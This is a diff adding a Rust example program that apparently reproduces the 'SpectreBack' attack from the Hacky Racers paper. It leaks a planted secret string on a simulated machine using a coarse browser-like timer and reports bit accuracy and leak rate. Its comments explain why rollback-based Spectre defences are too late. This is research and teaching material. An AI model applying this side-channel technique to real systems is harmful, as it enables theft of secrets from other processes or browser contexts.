@@ -1,0 +1,40 @@
+//! SpectreBack end-to-end: leak a secret string backwards in time (§7.3).
+//!
+//! The bounds-check-bypassing read happens *after* the racing gadget in
+//! program order, yet out-of-order execution delivers its effect to the
+//! race before the misprediction is discovered — so rollback-style Spectre
+//! defences are too late by construction.
+//!
+//! Run with: `cargo run --release -p hr-examples --bin spectre_back`
+
+use hacky_racers::attacks::SpectreBack;
+use hacky_racers::prelude::*;
+use racer_time::CoarseTimer;
+
+fn main() {
+    println!("=== SpectreBack: backwards-in-time secret leak ===\n");
+
+    let secret = b"HACKY RACERS @ ASPLOS 2023";
+    let mut machine = Machine::noisy(0xCAFE);
+    let attack = SpectreBack::new(machine.layout());
+    attack.plant_secret(&mut machine, secret);
+
+    println!("victim secret : {:?}", String::from_utf8_lossy(secret));
+    println!("timer         : performance.now() at 5 µs + DRAM jitter\n");
+
+    let mut timer = CoarseTimer::browser_5us();
+    let report = attack.leak_bytes(&mut machine, secret.len(), &mut timer);
+
+    let correct_bits: u32 = report
+        .recovered
+        .iter()
+        .zip(secret)
+        .map(|(a, b)| 8 - (a ^ b).count_ones())
+        .sum();
+    let accuracy = correct_bits as f64 / (secret.len() * 8) as f64;
+
+    println!("recovered     : {:?}", String::from_utf8_lossy(&report.recovered));
+    println!("bit accuracy  : {:.1}% (paper: >88%)", accuracy * 100.0);
+    println!("leak rate     : {:.2} kbit/s of simulated time (paper: 4.3 kbit/s)", report.kbps);
+    println!("simulated time: {:.2} ms", report.elapsed_ns / 1e6);
+}
